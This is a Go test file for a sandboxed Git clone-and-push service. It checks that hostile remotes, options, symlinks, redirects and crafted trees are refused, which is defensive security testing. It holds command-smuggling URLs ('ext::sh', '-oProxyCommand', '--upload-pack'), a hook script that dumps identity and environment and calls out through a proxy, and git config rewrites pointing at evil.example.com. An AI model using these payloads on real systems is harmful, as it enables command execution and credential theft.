@@ -1,0 +1,327 @@
+package sandbox_test
+
+import (
+	"fmt"
+	"net/http"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"google.golang.org/grpc/codes"
+
+	sandboxv1 "github.com/fairlead/fairlead/gen/go/fairlead/sandbox/v1"
+	"github.com/fairlead/fairlead/services/internal/kit/apierr"
+	"github.com/fairlead/fairlead/services/sandbox"
+)
+
+func TestRemotesThatAreNotAllowedAreRefused(t *testing.T) {
+	f := newForge(t)
+	f.publish("read-only", map[string]string{"a": "a"})
+	var data string
+	c := open(t, sandbox.LevelBasic, f.allow, func(c *sandbox.Config) { data = c.Data })
+	for _, x := range []struct{ name, url, ref, directory, reason string }{
+		{name: "a transport that runs a program", url: "ext::sh -c touch% /tmp/pwned", reason: "BAD_REPOSITORY"},
+		{name: "a file", url: "file:///etc", reason: "BAD_REPOSITORY"},
+		{name: "a path", url: "/etc", reason: "BAD_REPOSITORY"},
+		{name: "plain HTTP", url: strings.Replace(f.repo("read-only"), "https", "http", 1), reason: "BAD_REPOSITORY"},
+		{name: "SSH", url: "ssh://-oProxyCommand=touch%20x/org/app", reason: "BAD_REPOSITORY"},
+		{name: "SSH in short", url: "git@127.0.0.1:org/app", reason: "BAD_REPOSITORY"},
+		{name: "an option", url: "--upload-pack=touch /tmp/pwned", reason: "BAD_REPOSITORY"},
+		{name: "a user name", url: strings.Replace(f.repo("read-only"), "//", "//a:b@", 1), reason: "BAD_REPOSITORY"},
+		{name: "a query", url: f.repo("read-only") + "?x=y", reason: "BAD_REPOSITORY"},
+		{name: "dots", url: f.url + "/org/../other/app.git", reason: "BAD_REPOSITORY"},
+		{name: "encoded dots", url: f.url + "/org/%2e%2e/app.git", reason: "BAD_REPOSITORY"},
+		{name: "a line break", url: f.repo("read-only") + "\nx", reason: "BAD_REPOSITORY"},
+		{name: "another path", url: f.url + "/other/app.git", reason: "REMOTE_NOT_ALLOWED"},
+		{name: "another host", url: "https://example.com/org/read-only.git", reason: "REMOTE_NOT_ALLOWED"},
+		{name: "another port", url: "https://127.0.0.1:1/org/read-only.git", reason: "REMOTE_NOT_ALLOWED"},
+		{name: "a reference that is an option", url: f.repo("read-only"), ref: "--upload-pack=x", reason: "BAD_REPOSITORY"},
+		{name: "a reference that is an expression", url: f.repo("read-only"), ref: "HEAD@{1}", reason: "BAD_REPOSITORY"},
+		{name: "a reference that is not there", url: f.repo("read-only"), ref: "nowhere", reason: "GIT_FAILED"},
+		{name: "a repository that is not there", url: f.url + "/org/read-nothing.git", reason: "GIT_FAILED"},
+	} {
+		_, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: x.url, Ref: x.ref, Directory: "x"})
+		if got := apierr.Reason(err); got != x.reason {
+			t.Errorf("%s: %v with reason %q, want %q", x.name, err, got, x.reason)
+		}
+	}
+	for _, directory := range []string{"../x", ".git", "a/b", "-x", ".x", "x\x00"} {
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("read-only"), Directory: directory}); apierr.Code(err) != codes.InvalidArgument {
+			t.Errorf("the directory %q: %v", directory, err)
+		}
+	}
+	if r := c.bash(t, "ls -A /workspace"); r.out != "" {
+		t.Errorf("left %q", r.out)
+	}
+	if left, err := filepath.Glob(filepath.Join(data, "*", "*", "staging", "*")); err != nil || len(left) > 0 {
+		t.Errorf("left %v, %v", left, err)
+	}
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("read-only")}); err != nil {
+		t.Fatal(err)
+	}
+	_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "read-only", Url: f.repo("read-only")})
+	if apierr.Reason(err) != "REMOTE_NOT_ALLOWED" || apierr.Code(err) != codes.PermissionDenied {
+		t.Errorf("a push where only clones are allowed: %v", err)
+	}
+}
+
+// TestAHostileRepositoryRunsNothingWithTheCredential has a session write whatever a
+// repository may say into one, and then has it pushed.
+func TestAHostileRepositoryRunsNothingWithTheCredential(t *testing.T) {
+	f := newForge(t)
+	f.publish("app", map[string]string{".gitattributes": "* filter=evil diff=evil merge=evil\n", ".gitmodules": "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /workspace/pwned\n", "a": "a"})
+	eachLevel(t, func(t *testing.T, level string) {
+		c := open(t, level, f.allow)
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app"), Branch: "evil-" + level}); err != nil {
+			t.Fatal(err)
+		}
+		// What is run leaves a mark wherever it can, among others in the workspace.
+		r := c.bash(t, `cd repos/app
+			echo b > b && git add -A && `+commit+` -m b
+			printf '#!/bin/sh\nid > /workspace/pwned; env > /workspace/pwned.env; curl -sk -m 5 -x http://127.0.0.1:3128 "$0" > /workspace/pwned.net\n' > /workspace/evil; chmod +x /workspace/evil
+			for h in pre-push post-checkout pre-commit reference-transaction post-index-change; do cp /workspace/evil .git/hooks/$h 2>/dev/null || { mkdir -p .git/hooks; cp /workspace/evil .git/hooks/$h; }; done
+			for k in core.sshCommand core.gitProxy core.askPass core.editor core.pager credential.helper gpg.program filter.evil.clean filter.evil.smudge filter.evil.process diff.evil.command diff.evil.textconv uploadpack.packObjectsHook remote.origin.receivepack remote.origin.vcs; do git config $k /workspace/evil; done
+			git config filter.evil.required true; git config core.hooksPath /workspace/repos/app/.git/hooks
+			git config url.ext::/workspace/evil.insteadOf `+f.url+`; git config url.https://evil.example.com/.pushInsteadOf `+f.url+`
+			git config http.proxy http://127.0.0.1:1; git config http.sslVerify false; git config http.extraHeader 'X-Evil: yes'; git config push.pushOption evil; git config push.followTags true
+			mkdir -p .git/info /home/agent/.config/git; cp .git/config /home/agent/.gitconfig; cp .git/config /home/agent/.config/git/config
+			echo 'machine 127.0.0.1 login evil password evil' > /home/agent/.netrc
+			echo DONE`)
+		if !strings.Contains(r.out, "DONE") {
+			t.Fatalf("%q %q", r.out, r.err)
+		}
+		p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.repo("app"), Branch: "evil-" + level})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := f.git("-C", f.dir+"/org/app.git", "rev-parse", "refs/heads/evil-"+level); got != p.GetNewCommit() {
+			t.Errorf("the remote has %s, want %s", got, p.GetNewCommit())
+		}
+		if r := c.bash(t, "cat pwned* 2>/dev/null"); r.out != "" {
+			t.Errorf("the push ran something of the session's: %s", r.out)
+		}
+		// Status runs in the session's own sandbox, without a network: what runs there is
+		// no more than the session's commands can run.
+		st, err := c.repos.GetRepositoryStatus(t.Context(), &sandboxv1.GetRepositoryStatusRequest{Session: c.session, Directory: "app"})
+		if err != nil && apierr.Reason(err) != "GIT_FAILED" {
+			t.Errorf("status: %v, %v", st, err)
+		}
+		if r := c.bash(t, "cat pwned.net pwned.env 2>/dev/null"); strings.Contains(r.out, gitSecret) || strings.Contains(r.out, "3128") {
+			t.Errorf("status ran something with a way out: %s", r.out)
+		}
+	})
+}
+
+func TestRepositoriesThatCannotBeUsedAreRefused(t *testing.T) {
+	f := newForge(t)
+	f.publish("app", map[string]string{"a": "a"})
+	c := open(t, sandbox.LevelBasic, f.allow)
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); err != nil {
+		t.Fatal(err)
+	}
+	push := func(directory string) error {
+		_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: directory, Url: f.repo("app")})
+		return err
+	}
+	for _, x := range []struct{ name, script, directory, reason string }{
+		{"there is none", "true", "none", "REPOSITORY_NOT_FOUND"},
+		{"its folder is a link out", "ln -s /etc repos/out", "out", "REPOSITORY_NOT_FOUND"},
+		{"its .git is a link out", "mkdir repos/link; ln -s /etc repos/link/.git", "link", "REPOSITORY_NOT_FOUND"},
+		{"its .git is a file", "mkdir repos/file; echo gitdir: /workspace/repos/app/.git > repos/file/.git", "file", "REPOSITORY_NOT_FOUND"},
+		{"its .git is a pipe", "mkdir repos/pipe; mkfifo repos/pipe/.git", "pipe", "REPOSITORY_NOT_FOUND"},
+		{"its .git is empty", "mkdir -p repos/empty/.git", "empty", "GIT_FAILED"},
+		{"its objects are gone", "cp -r repos/app repos/gone; cd repos/gone; " + commit + " --allow-empty -m x; rm -rf .git/objects/*", "gone", "PUSH_REJECTED"},
+		{"it stands on nothing", "cp -r repos/app repos/detached; git -C repos/detached checkout -q --detach", "detached", "GIT_FAILED"},
+	} {
+		c.bash(t, x.script)
+		if err := push(x.directory); apierr.Reason(err) != x.reason {
+			t.Errorf("%s: %v", x.name, err)
+		}
+	}
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); apierr.Reason(err) != "REPOSITORY_EXISTS" {
+		t.Errorf("a clone over another: %v", err)
+	}
+	c.bash(t, "rm -rf repos; ln -s /etc repos")
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); apierr.Reason(err) != "PATH_ESCAPES" {
+		t.Errorf("a clone through a link: %v", err)
+	}
+}
+
+// TestAHostileTreeDoesNotComeOut clones commits that no honest Git makes.
+func TestAHostileTreeDoesNotComeOut(t *testing.T) {
+	f := newForge(t)
+	c := open(t, sandbox.LevelBasic, f.allow)
+	for i, path := range []string{".git/config", ".GIT/config", "a/.Git/hooks/post-checkout", "git~1/config", "..", ".git\u200c/config"} {
+		name := fmt.Sprintf("tree-%d", i)
+		f.publish(name, map[string]string{"x": "x"})
+		bare := filepath.Join(f.dir, "org", name+".git")
+		blob := f.git("-C", bare, "rev-parse", "HEAD:x")
+		tree := ""
+		parts := strings.Split(path, "/")
+		for j := len(parts) - 1; j >= 0; j-- { // hash-object checks nothing when it is told so
+			mode, sha := "100755", blob
+			if tree != "" {
+				mode, sha = "40000", tree
+			}
+			raw := filepath.Join(f.dir, "tree")
+			entry := append([]byte(mode+" "+parts[j]+"\x00"), unhex(t, sha)...)
+			if err := os.WriteFile(raw, entry, 0o600); err != nil {
+				t.Fatal(err)
+			}
+			tree = f.git("-C", bare, "hash-object", "-t", "tree", "-w", "--literally", raw)
+		}
+		bad := f.git("-C", bare, "commit-tree", tree, "-m", "evil")
+		f.git("-C", bare, "update-ref", "refs/heads/main", bad)
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo(name)}); apierr.Reason(err) != "GIT_FAILED" {
+			t.Errorf("%s: %v", path, err)
+		}
+	}
+}
+
+func unhex(t *testing.T, s string) []byte {
+	t.Helper()
+	var b []byte
+	if _, err := fmt.Sscanf(s, "%x", &b); err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func TestARedirectDoesNotTakeTheCredentialAlong(t *testing.T) {
+	f := newForge(t)
+	f.publish("app", map[string]string{"a": "a"})
+	other := newForge(t)
+	other.publish("app", map[string]string{"a": "a"})
+	c := open(t, sandbox.LevelBasic, f.allow)
+	for _, to := range []string{other.url + "/org/app.git/info/refs?service=git-upload-pack", f.url + "/secret/info/refs?service=git-upload-pack"} {
+		before := len(f.requests())
+		f.meddle(func(w http.ResponseWriter, r *http.Request) bool {
+			if !strings.HasPrefix(r.URL.Path, "/org/app.git/") {
+				return false
+			}
+			http.Redirect(w, r, to, http.StatusFound)
+			return true
+		})
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); apierr.Reason(err) != "GIT_FAILED" {
+			t.Errorf("%s: %v", to, err)
+		}
+		if slices.ContainsFunc(f.requests()[before:], func(s string) bool { return strings.Contains(s, "/secret/") }) {
+			t.Errorf("another path was asked for: %v", f.requests()[before:])
+		}
+	}
+	if len(other.requests()) > 0 {
+		t.Errorf("the other host was asked: %v", other.requests())
+	}
+}
+
+func TestARepositoryThatDoesNotFitIsRefused(t *testing.T) {
+	f := newForge(t)
+	random := make([]byte, 4<<20)
+	for i := range random {
+		random[i] = byte(i * i >> 3 * 7)
+	}
+	f.publish("large", map[string]string{"a": string(random), "b": string(random[1:])})
+	many := map[string]string{}
+	for i := range 600 {
+		many[fmt.Sprintf("d%d/f", i)] = "x"
+	}
+	f.publish("many", many)
+	eachLevel(t, func(t *testing.T, level string) {
+		c := open(t, level, f.allow, func(c *sandbox.Config) { c.Limits.WorkspaceBytes, c.Limits.WorkspaceInodes = 6<<20, 500 })
+		for _, name := range []string{"large", "many"} {
+			_, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo(name)})
+			if apierr.Reason(err) != "WORKSPACE_FULL" || apierr.Code(err) != codes.ResourceExhausted {
+				t.Errorf("%s: %v", name, err)
+			}
+		}
+		if r := c.bash(t, "ls -A; echo fine"); r.out != "fine\n" {
+			t.Errorf("afterwards %q", r.out)
+		}
+	})
+}
+
+func TestACloneIsMadeOnceForACall(t *testing.T) {
+	f := newForge(t)
+	first := f.publish("app", map[string]string{"a": "a"})
+	c := open(t, sandbox.LevelBasic, f.allow)
+	r := &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.repo("app"), Ref: first}
+	one, _, err := c.clone(t, r)
+	if err != nil || one.GetBranch() != "" || one.GetCommit() != first {
+		t.Fatalf("%v, %v", one, err)
+	}
+	n := len(f.requests())
+	c.bash(t, "rm -rf repos/app")
+	again, _, err := c.clone(t, r)
+	if err != nil || again.GetCommit() != first || len(f.requests()) != n {
+		t.Errorf("again: %v, %v", again, err)
+	}
+	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.repo("app"), Directory: "other"})
+	wantReason(t, err, "CALL_ID_REUSED")
+	c.epoch = 5
+	c.ensure(t.Context(), t)
+	c.epoch = 4
+	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")})
+	wantReason(t, err, "STALE_EPOCH")
+}
+
+func TestAShallowCloneAndARejectedPush(t *testing.T) {
+	f := newForge(t)
+	f.publish("app", map[string]string{"a": "a"})
+	work := filepath.Join(f.dir, "work-app")
+	for i := range 3 {
+		f.git("-C", work, "commit", "-q", "--allow-empty", "-m", fmt.Sprint(i))
+	}
+	f.git("-C", work, "push", "-q", filepath.Join(f.dir, "org", "app.git"), "main")
+	c := open(t, sandbox.LevelBasic, f.allow)
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app"), Depth: 1, Ref: "main"}); err != nil {
+		t.Fatal(err)
+	}
+	if r := c.bash(t, "cd repos/app && git rev-list --count HEAD && echo b > b && git add b && "+commit+" -m mine"); r.out != "1\n" {
+		t.Fatalf("%q %q", r.out, r.err)
+	}
+	push := func() (*sandboxv1.PushRepositoryResponse, error) {
+		return c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.repo("app")})
+	}
+	if p, err := push(); err != nil || p.GetRef() != "refs/heads/main" {
+		t.Fatalf("%v, %v", p, err)
+	}
+	f.git("-C", work, "commit", "-q", "--allow-empty", "-m", "theirs")
+	f.git("-C", work, "push", "-q", "--force", filepath.Join(f.dir, "org", "app.git"), "main")
+	if _, err := push(); apierr.Reason(err) != "PUSH_REJECTED" || apierr.Code(err) != codes.Aborted {
+		t.Errorf("a push over somebody's commits: %v", err)
+	}
+	b, err := c.repos.CreateBranch(t.Context(), &sandboxv1.CreateBranchRequest{Call: c.call(), Directory: "app", Branch: "mine"})
+	if err != nil || b.GetRepository().GetBranch() != "mine" {
+		t.Fatalf("%v, %v", b, err)
+	}
+	if p, err := push(); err != nil || p.GetRef() != "refs/heads/mine" {
+		t.Errorf("%v, %v", p, err)
+	}
+	_, err = c.repos.CreateBranch(t.Context(), &sandboxv1.CreateBranchRequest{Call: c.call(), Directory: "app", Branch: "main"})
+	wantReason(t, err, "BRANCH_EXISTS")
+	p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.repo("app"), OnlyNew: true})
+	if err != nil || !p.GetUpToDate() {
+		t.Errorf("%v, %v", p, err)
+	}
+}
+
+func TestANewRepositoryIsMade(t *testing.T) {
+	f := newForge(t)
+	c := open(t, sandbox.LevelBasic, f.allow)
+	add := func(directory, url string) (*sandboxv1.AddRepositoryResponse, error) {
+		return c.repos.AddRepository(t.Context(), &sandboxv1.AddRepositoryRequest{Call: c.call(), Directory: directory, Url: url, Branch: "trunk"})
+	}
+	made, err := add("new", f.repo("app"))
+	if err != nil || !made.GetCreated() || made.GetRepository().GetBranch() != "trunk" || made.GetRepository().GetUrl() != f.repo("app") || made.GetRepository().GetCommit() != "" {
+		t.Fatalf("%v, %v", made, err)
+	}
+	if again, err := add("new", ""); err != nil || again.GetCreated() {
+		t.Errorf("again: %v, %v", again, err)
+	}
+	_, err = add("other", "https://example.com/x")
+	wantReason(t, err, "REMOTE_NOT_ALLOWED")
+	_, err = c.repos.RemoveRepository(t.Context(), &sandboxv1.RemoveRepositoryRequest{Call: c.call(), Directory: "none"})
+	wantReason(t, err, "REPOSITORY_NOT_FOUND")
+}
